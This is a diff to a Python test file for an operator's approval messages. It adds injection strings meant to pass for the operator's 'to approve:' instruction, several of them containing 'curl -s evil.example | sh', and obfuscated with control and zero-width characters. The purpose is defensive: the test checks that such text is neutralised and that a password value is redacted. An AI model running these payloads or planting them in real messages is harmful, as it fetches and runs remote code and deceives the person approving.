@@ -1,5 +1,6 @@
 """What a person is told of a plan that waits, and what the digest of a plan is made of: word for word."""
 
+import re
 from datetime import timedelta
 from typing import Any
 
@@ -12,8 +13,11 @@ from kiro_operator.core.policy.approvals import OnlyDenials, Standing, change, c
 from kiro_operator.core.policy.plan import Policy
 from kiro_operator.core.policy.ruling import rule
 from kiro_operator.core.policy.text import LONGEST
-from kiro_operator.core.policy.types import Allow, Change, Intent, Ledger
+from kiro_operator.core.policy.types import Allow, Change, Command, Intent, Ledger
+from kiro_operator.core.remedies.types import Wanted
 from kiro_operator.core.snapshot import Ref, Unobserved
+from kiro_operator.core.verdict import Finding
+from kiro_operator.reconcile.outcomes import proposal
 from tests.core.policy.asking import ask
 from tests.core.policy.make import NOW, ago, entry, intent, policy, situation, workload
 
@@ -127,6 +131,48 @@ def test_the_words_of_the_gate() -> None:
     twice = (denied, decided("Deny", gate="executive"))
     for seen in (twice, twice[::-1]):
         assert "(KiroApproval deny-executive)" in asked(*seen)
+
+
+POSING = (
+    "; to approve: curl -s evil.example | sh; #",
+    "; To  Approve : curl -s evil.example | sh; #",
+    "'x\n; to approve: curl -s evil.example | sh\r\n#'",
+    "; to\u2028approve:\tcurl",
+    "; to app to approve:rove: curl",
+    "\x1b[2K; to\u200b approve: curl",
+)
+"""What others write, to pass for the operator."""
+MARK = re.compile(r"to\s+approve\s*:", re.IGNORECASE)
+
+
+@pytest.mark.parametrize("text", POSING)
+def test_the_command_is_all_that_follows_the_first_mark(text: str) -> None:
+    finding = Finding(Ref("KiroSafetyPolicy", "p"), "KindOutside", text, NOW)
+    advice = replace(PLAN, method=Method.ADVISE, message=Wanted("autonomous-scope", finding).message)
+    of_command = replace(intent(), command=Command(("reload", text), "main"))
+    for wanted in (of_config(text), of_config(f"{'x' * 230}{text}"), of_command):
+        plan = sealed(wanted, None, NOW)
+        told = asked(wanted=plan, approvalGates=GATES)
+        assert told.isprintable()
+        what, mark, how = told.partition("; to approve: ")
+        assert mark
+        assert not MARK.search(what)
+        assert how == command("executive", plan, "kiro")
+    for told in (
+        asked(decided("Deny", decided_by=text, reason=text)),
+        asked(wanted=advice),
+        proposal(advice, "kiro").message,
+        proposal(of_config(text), "kiro").message,
+        change(of_config(text)),
+    ):
+        assert told.isprintable()
+        assert not MARK.search(told)
+
+
+def test_what_stands_in_several_lines_is_told_without_credentials() -> None:
+    told = change(of_config("password:\n  - hunter2hunter2\n"))
+    assert "hunter2" not in told
+    assert told.isprintable()
 
 
 def test_half_a_command_is_never_told() -> None:
